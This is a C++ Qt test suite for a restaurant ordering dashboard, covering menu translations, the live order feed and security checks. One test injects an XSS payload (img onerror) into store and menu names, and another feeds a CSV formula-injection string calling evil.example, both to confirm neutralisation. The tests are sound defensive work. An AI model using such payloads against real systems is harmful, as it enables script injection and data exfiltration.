             (QJsonObject{{u"en"_s, QJsonObject{{u"name"_s, u"Kimchi pancake"_s}, {u"description"_s, u"Crispy kimchi pancake"_s}}},
                          {u"zh"_s, QJsonObject{{u"name"_s, u"泡菜饼"_s}}},
                          {u"ja"_s, QJsonObject{{u"name"_s, u"キムチチヂミ"_s}}}}));
    QCOMPARE(item.value(u"available_hours"_s).toArray(),
             (QJsonArray{QJsonObject{{u"days"_s, QJsonArray{1, 2, 3, 4, 5}}, {u"from"_s, u"11:00"_s}, {u"to"_s, u"14:00"_s}}}));

    // Published: the store's menu as the linked edge receives it carries all of it.
    QJsonObject published;
    QTRY_VERIFY_WITH_TIMEOUT(([&] {
        for (const QJsonValue &c : publishedMenu().value(u"categories"_s).toArray()) {
            for (const QJsonValue &i : c.toObject().value(u"items"_s).toArray()) {
                if (i.toObject().value(u"id"_s).toInteger() == 15)
                    published = i.toObject();
            }
        }
        return !published.value(u"option_groups"_s).toArray().isEmpty();
    })(), 10'000);
    const QJsonObject group = published.value(u"option_groups"_s).toArray().first().toObject();
    QCOMPARE(group.value(u"name"_s).toString(), u"소스"_s);
    QCOMPARE(group.value(u"min_select"_s).toInteger(), 1);
    QCOMPARE(group.value(u"max_select"_s).toInteger(), 1);
    QCOMPARE(group.value(u"translations"_s).toObject().value(u"en"_s).toObject().value(u"name"_s).toString(), u"Sauce"_s);
    QStringList options;
    for (const QJsonValue &o : group.value(u"options"_s).toArray())
        options.append(u"%1|%2|%3"_s.arg(o.toObject().value(u"name"_s).toString())
                               .arg(o.toObject().value(u"price_delta"_s).toInteger())
                               .arg(QString::fromUtf8(QJsonDocument(o.toObject().value(u"translations"_s).toObject())
                                                              .toJson(QJsonDocument::Compact))));
    QCOMPARE(options, (QStringList{uR"(간장 소스|0|{"en":{"name":"Soy sauce"}})"_s, uR"(<b>아주</b> 매운맛|500|{"ja":{"name":"激辛"}})"_s}));
    QCOMPARE(published.value(u"allergens"_s).toArray().size(), 3);
    QCOMPARE(published.value(u"translations"_s).toObject().value(u"en"_s).toObject().value(u"description"_s).toString(),
             u"Crispy kimchi pancake"_s);
}

void TestDashboard::categoryTranslationsAndHoursReachTheEdge()
{
    // A category's other-language names and its hours, edited in its details and published
    // with "Save and publish", reach the linked edge's GET /menu (what its tablets read).
    m_browser.evaluate(u"location.hash = '#/reports'; true"_s);
    QVERIFY(m_browser.waitFor(u"document.querySelector('#report-table') && !document.querySelector('#new-group')"_s));
    m_browser.evaluate(u"location.hash = '#/menus/1'; true"_s);
    QVERIFY(m_browser.waitFor(u"document.querySelector('.toggle-cat[data-category=\"5\"]')"_s));
    // 디저트 (category 5; the demo names it Desserts / 甜点 / デザート). Nothing orders desserts later.
    QCOMPARE(m_browser.evaluate(u"document.querySelector('.cat-details[data-category=\"5\"] .cat-tr[data-lang=en]').value"_s)
                     .toString(),
             u"Desserts"_s);
    m_browser.evaluate(uR"((() => {
        document.querySelector('.toggle-cat[data-category="5"]').click();
        const box = document.querySelector('.cat-details[data-category="5"]');
        box.querySelector('.cat-tr[data-lang=en]').value = 'Sweets & tea';
        box.querySelector('.cat-tr[data-lang=ja]').value = '<b>デザート</b>';
        box.querySelector('.cat-hours').value = '6,7 10:00-22:00';
        document.querySelector('#menu-save').click();
        return true; })())"_s);
    confirmPublish();

    QJsonObject category;
    QTRY_VERIFY_WITH_TIMEOUT(([&] {
        for (const QJsonValue &c : m_edgeHttp.get(u"/api/v1/menu"_s).json().value(u"categories"_s).toArray()) {
            if (c.toObject().value(u"id"_s).toInteger() == 5)
                category = c.toObject();
        }
        return category.value(u"translations"_s).toObject().value(u"en"_s).toObject().value(u"name"_s).toString()
                == u"Sweets & tea"_s;
    })(), 10'000);
    QCOMPARE(category.value(u"name"_s).toString(), u"디저트"_s);
    QCOMPARE(category.value(u"translations"_s).toObject(),
             (QJsonObject{{u"en"_s, QJsonObject{{u"name"_s, u"Sweets & tea"_s}}},
                          {u"zh"_s, QJsonObject{{u"name"_s, u"甜点"_s}}},
                          {u"ja"_s, QJsonObject{{u"name"_s, u"<b>デザート</b>"_s}}}}));
    QCOMPARE(category.value(u"available_hours"_s).toArray(),
             (QJsonArray{QJsonObject{{u"days"_s, QJsonArray{6, 7}}, {u"from"_s, u"10:00"_s}, {u"to"_s, u"22:00"_s}}}));

    // Back in the editor: the page shows what was saved, as text (the markup stays in the input).
    m_browser.evaluate(u"location.hash = '#/reports'; true"_s);
    QVERIFY(m_browser.waitFor(u"document.querySelector('#report-table') && !document.querySelector('#new-group')"_s));
    m_browser.evaluate(u"location.hash = '#/menus/1'; true"_s);
    QVERIFY(m_browser.waitFor(u"document.querySelector('.cat-details[data-category=\"5\"] .cat-hours')"_s));
    QCOMPARE(m_browser.evaluate(u"document.querySelector('.cat-details[data-category=\"5\"] .cat-hours').value"_s).toString(),
             u"6-7 10:00-22:00"_s); // consecutive days read back as a run
    QVERIFY(m_browser.evaluate(u"document.querySelector('.cat-details[data-category=\"5\"] .cat-tr[data-lang=ja]').value "
                               "=== '<b>デザート</b>' && document.querySelectorAll('#app b').length === 0"_s)
                    .toBool());

    // The editor as an HQ admin builds the demo's 식사: the category's names in three
    // languages and its hours, and 김치찌개's option groups, allergens, tags and names.
    m_browser.evaluate(uR"((() => {
        document.querySelector('.toggle-cat[data-category="1"]').click();
        document.querySelector('.toggle-details[data-item="1"]').click();
        document.querySelector('.menu-cat[data-category="1"]').scrollIntoView();
        window.scrollBy(0, -24);
        return true; })())"_s);
    QVERIFY(m_browser.evaluate(u"[...document.querySelectorAll('tr.item-details[data-item=\"1\"] .item-group')]"
                               ".filter(c => c.checked).map(c => c.parentElement.textContent.trim()).join(',') === '맵기,공기밥 추가'"_s)
                    .toBool());
    shoot(u"dashboard-menu-editor"_s);
}

void TestDashboard::liveFeedShowsANewOrder()
{
    m_browser.evaluate(u"location.hash = '#/live'; true"_s);
    QVERIFY2(m_browser.waitFor(u"document.querySelector('#feed')"_s),
             qPrintable(m_browser.evaluate(u"location.hash + ' | ' + document.getElementById('app').innerHTML.slice(0, 400)"_s)
                                .toString()));
    QVERIFY2(m_browser.waitFor(u"state.feed && state.feed.readyState === 1"_s, 10'000),
             qPrintable(m_browser.evaluate(u"String(state.feed && state.feed.readyState)"_s).toString()));
    placeOrder(5, 20, 2);
    const bool shown = m_browser.waitFor(u"document.querySelectorAll('.feed-item').length >= 1"_s, 10'000);
    if (!shown) {
        for (const QByteArray &line : m_edge->log().split('\n')) {
            if (!line.contains("GET /metrics") && !line.contains("GET /api/v1/menu"))
                qWarning("edge: %s", line.constData());
        }
        qWarning("central:\n%s", m_central->log().right(3000).constData());
        qWarning("page: %s", qPrintable(m_browser.evaluate(
                                  u"JSON.stringify({cursor: state.feed && state.feed.cursor, connects: state.feed && state.feed.connects, "
                                  "ready: state.feed && state.feed.readyState, hash: location.hash, title: document.querySelector('h1') && document.querySelector('h1').textContent})"_s).toString()));
        for (const QByteArray &line : m_edgeHttp.get(u"/metrics"_s).body.split('\n')) {
            if (line.startsWith("tableorder_sync_"))
                qWarning("edge metric: %s", line.constData());
        }
    }
    QVERIFY2(shown, qPrintable(m_browser.errorString()));
    shoot(u"dashboard-live"_s);
}

void TestDashboard::liveFeedCatchesUpAfterADrop()
{
    // The stream goes down (as when wifi roams) and stays down while an order reaches HQ.
    const int shown = m_browser.evaluate(u"document.querySelectorAll('.feed-item').length"_s).toInt();
    QVERIFY(shown >= 1);
    QVERIFY(m_browser.evaluate(u"const s = state.feed.source; state.feed.source = null; s.close(); true"_s).toBool());
    const qint64 before = centralAppliedSeq();
    QVERIFY(before > 0);
    placeOrder(7, 2, 3);
    QTRY_VERIFY_WITH_TIMEOUT(centralAppliedSeq() > before, 10'000);
    QCOMPARE(m_browser.evaluate(u"document.querySelectorAll('.feed-item').length"_s).toInt(), shown);

    // Back: the order it missed shows, once, before the next live one.
    m_browser.evaluate(u"state.feed.connect(); true"_s);
    QVERIFY2(m_browser.waitFor(u"document.querySelectorAll('.feed-item').length === %1"_s.arg(shown + 1), 10'000),
             qPrintable(m_browser.evaluate(u"document.querySelector('#feed').innerText"_s).toString()));
    QVERIFY(m_browser.evaluate(u"document.querySelector('.feed-item').textContent.includes('테이블 7')"_s).toBool());
    placeOrder(8, 3, 1); // not item 15: optionGroupEditorPublishes gave it a required group and lunch hours
    QVERIFY2(m_browser.waitFor(u"document.querySelectorAll('.feed-item').length === %1"_s.arg(shown + 2), 10'000),
             qPrintable(m_browser.evaluate(u"document.querySelector('#feed').innerText"_s).toString()));
    QVERIFY(m_browser.evaluate(u"document.querySelector('.feed-item').textContent.includes('테이블 8')"_s).toBool());
    QCOMPARE(m_browser.evaluate(u"document.querySelectorAll('.feed-item').length"_s).toInt(), shown + 2);
}

void TestDashboard::languageSwitchesToEnglish()
{
    m_browser.evaluate(u"location.hash = '#/overview'; document.querySelector('#lang').click(); true"_s);
    QVERIFY(m_browser.waitFor(u"document.querySelector('nav a').textContent === 'Overview'"_s));
    QVERIFY(m_browser.waitFor(u"document.querySelector('.store-row')"_s));
    shoot(u"dashboard-overview-en"_s);
}

void TestDashboard::hostileNamesShowAsText()
{
    // A store and a menu item named with markup (what a rogue admin, a store or a leaked
    // key could choose) show as the text they are, on every page that lists them.
    const QString hostile = uR"(<img src=x onerror="window.__xss=1">가게 <b>bold</b>)"_s;
    HttpClient hq(m_central->port());
    const QString token = hq.post(u"/api/v1/auth/login"_s, {{u"username"_s, u"hq"_s}, {u"password"_s, u"hq"_s}})
                                  .json().value(u"token"_s).toString();
    QVERIFY(!token.isEmpty());
    VERIFY_STATUS(hq.post(u"/api/v1/stores"_s, {{u"name"_s, hostile}}, token), 201);
    const QJsonArray categories = hq.get(u"/api/v1/stores/1/menu"_s, token).json().value(u"categories"_s).toArray();
    QVERIFY(!categories.isEmpty());
    VERIFY_STATUS(hq.post(u"/api/v1/stores/1/menu/items?publish=later"_s,
                          {{u"category_id"_s, categories.first().toObject().value(u"id"_s)},
                           {u"name"_s, hostile}, {u"price"_s, 1000}},
                          token),
                  201);

    // The name as a JavaScript string literal (a JSON array is one).
    const QString literal = u"(%1[0])"_s.arg(QString::fromUtf8(QJsonDocument(QJsonArray{hostile}).toJson(QJsonDocument::Compact)));
    const QString noMarkup = u"document.querySelectorAll('#app img[onerror], #app b, #app [onerror]').length === 0"_s;
    m_browser.evaluate(u"location.hash = '#/overview?' + Date.now(); true"_s);
    QVERIFY2(m_browser.waitFor(u"[...document.querySelectorAll('.store-row a')].some(a => a.textContent === %1)"_s.arg(literal)),
             qPrintable(m_browser.evaluate(u"document.querySelector('#stores') && document.querySelector('#stores').innerHTML"_s)
                                .toString()));
    QVERIFY(m_browser.evaluate(noMarkup).toBool());

    m_browser.evaluate(u"location.hash = '#/menus/1'; true"_s);
    QVERIFY(m_browser.waitFor(
            u"[...document.querySelectorAll('.item-field[data-field=name]')].some(i => i.value === %1)"_s.arg(literal)));
    QVERIFY(m_browser.evaluate(u"[...document.querySelectorAll('#menu-store option')].some(o => o.textContent === %1)"_s
                                       .arg(literal)).toBool());
    QVERIFY(m_browser.evaluate(noMarkup).toBool());

    m_browser.evaluate(u"location.hash = '#/fleet'; true"_s);
    QVERIFY(m_browser.waitFor(u"[...document.querySelectorAll('.tile-name')].some(n => n.textContent === %1)"_s.arg(literal)));
    QVERIFY(m_browser.evaluate(noMarkup).toBool());
    shoot(u"dashboard-hostile-names"_s);
    QVERIFY(m_browser.evaluate(u"window.__xss === undefined"_s).toBool());
}

void TestDashboard::csvExportNeutralisesFormulas()
{
    // The CSV the reports page downloads: cells a spreadsheet would run as formulas get a
    // leading apostrophe (OWASP), numbers and ordinary text stay as they are.
    m_browser.evaluate(u"location.hash = '#/reports'; true"_s);
    QVERIFY(m_browser.waitFor(u"typeof toCsv === 'function' && document.querySelector('#report-table')"_s));
    const QString csv = m_browser.evaluate(uR"(toCsv([
        { key: '=HYPERLINK("http://evil.example/?"&A1)', orders: 1, total: 1000 },
        { key: '+1+2', orders: 2, total: -5 },
        { key: '-2+3', orders: 3, total: 0 },
        { key: '@SUM(A1:A2)', orders: 4, total: 0 },
        { key: '\tTAB', orders: 5, total: 0 },
        { key: '\rCR', orders: 6, total: 0 },
        { key: '김치찌개 "special"', orders: 7, total: 9000 }]))"_s).toString();
    // Excel's line ends (CRLF), the last line ended too.
    QVERIFY(csv.endsWith(u"\r\n"_s));
    const QStringList lines = csv.chopped(2).split(u"\r\n"_s);
    QCOMPARE(lines.size(), 8);
    QCOMPARE(lines.at(0), uR"("key","orders","total")"_s);
    QCOMPARE(lines.at(1), uR"csv("'=HYPERLINK(""http://evil.example/?""&A1)","1","1000")csv"_s);
    QCOMPARE(lines.at(2), uR"("'+1+2","2","-5")"_s);
    QCOMPARE(lines.at(3), uR"("'-2+3","3","0")"_s);
    QCOMPARE(lines.at(4), uR"csv("'@SUM(A1:A2)","4","0")csv"_s);
    QCOMPARE(lines.at(5), u"\"'\tTAB\",\"5\",\"0\""_s);
    QCOMPARE(lines.at(6), u"\"'\rCR\",\"6\",\"0\""_s);
    QCOMPARE(lines.at(7), uR"("김치찌개 ""special""","7","9000")"_s);
}

void TestDashboard::policyForbidsFormsElsewhereAndBaseUrls()
{
    HttpClient http(m_central->port());
    for (const QString &path : {u"/"_s, u"/dashboard/app.js"_s}) {
        const HttpResult page = http.get(path);
        VERIFY_STATUS(page, 200);
        const QByteArray csp = page.header("Content-Security-Policy");
        QVERIFY2(csp.contains("form-action 'self'") && csp.contains("base-uri 'none'")
                         && csp.contains("default-src 'self'") && !csp.contains("unsafe-inline"),
                 csp.constData());
    }
    // The page itself opens its live feed without a token in the URL.
    const HttpResult app = http.get(u"/dashboard/app.js"_s);
    QVERIFY(!app.body.contains("access_token"));
    QVERIFY(app.body.contains("/api/v1/feed/stream-ticket"));
}

QTEST_GUILESS_MAIN(TestDashboard)
#include "tst_dashboard.moc"
